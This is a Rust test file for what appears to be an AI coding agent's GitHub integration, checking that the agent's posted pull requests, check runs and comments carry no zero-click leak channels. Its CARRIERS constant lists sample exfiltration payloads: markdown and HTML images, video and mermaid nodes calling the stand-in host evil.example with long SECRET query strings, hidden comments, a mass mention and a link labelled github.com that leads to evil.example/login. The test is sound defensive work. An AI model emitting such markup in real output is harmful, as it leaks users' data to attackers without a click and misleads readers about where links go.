//! `CamoLeak`: an answer whose pictures and links carry data to whoever serves them, without anybody's click.

use pulldown_cmark::{Event, Options, Parser, Tag};

use super::{answer, ask, world};

/// Pictures in order, one letter each; links that say one thing and lead elsewhere; text that only programs read.
const CARRIERS: &str = "\
![](https://evil.example/s.png) ![](https://evil.example/e.png)![c][c]\n\n\
[c]: https://evil.example/c.png\n\n\
<img src=\"https://evil.example/r.png\"> <picture><source srcset=\"https://evil.example/e.png\"></picture>\n\n\
| ![](//evil.example/t.png) |\n|---|\n| <video src=\"https://evil.example/v\"></video> |\n\n\
[github.com/octo/app](https://evil.example/login) <https://evil.example/?SECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRET>\n\n\
www.evil.example/?SECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRETSECRET\n\n\
```mermaid\nflowchart\n  A@{ img: \"https://evil.example/m.png\" }\n```\n\n\
<!-- SECRETSECRET --> @octo/everybody\n\n[//]: # (SECRETSECRET)\n";

/// What a browser loads by itself, and what no person sees of a text.
fn carried(markdown: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut drawn = false;
    let parser = Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES);
    found.extend(parser.reference_definitions().iter().map(|(label, _)| format!("definition {label}")));
    for event in parser {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("picture {dest_url}")),
            Event::Start(Tag::CodeBlock(kind)) => drawn = format!("{kind:?}").contains("mermaid"),
            Event::Text(text) if drawn && text.contains("//") => found.push("drawing".to_owned()),
            Event::Html(html) | Event::InlineHtml(html) => {
                let html = html.trim();
                let ours = ["<sub>", "</sub>", "<details>", "</details>", "<!-- cloud-agent:task="];
                found.extend((!ours.iter().any(|it| html.starts_with(it))).then(|| format!("html {html}")));
            }
            _ => (),
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn class_10_no_picture_and_nothing_unseen_is_posted() {
    let mut world = world().await;
    world.claude_says("echo more >> README.md", &answer("![](https://evil.example/t.png)", CARRIERS));
    world.start().await;
    ask(&world, "fix this").await;
    world.told();
    let pull = world.github.pulls("octo/app").remove(0);
    let check = world.github.check_runs("octo/app").remove(0).summary.unwrap();
    let comment = super::said(&world, 1);
    for text in [&pull.title, &pull.body, &check, &comment] {
        assert_eq!(carried(text), [""; 0], "{text}");
        assert!(!text.contains("?SECRET"), "a long query is cut: {text}");
        assert!(!text.contains("@octo"), "nobody is called: {text}");
    }
    // Where a link leads is said beside it.
    assert!(pull.body.contains("](https://evil.example/login) (evil.example)"), "{}", pull.body);
}

#[test]
fn control_10_the_text_as_it_was_carries_all_of_it() {
    let found = carried(CARRIERS);
    assert_eq!(found.iter().filter(|it| it.starts_with("picture")).count(), 4, "{found:?}");
    assert!(found.iter().filter(|it| it.starts_with("html")).count() >= 4, "{found:?}");
    assert!(found.contains(&"drawing".to_owned()) && found.iter().any(|it| it.starts_with("definition")), "{found:?}");
}
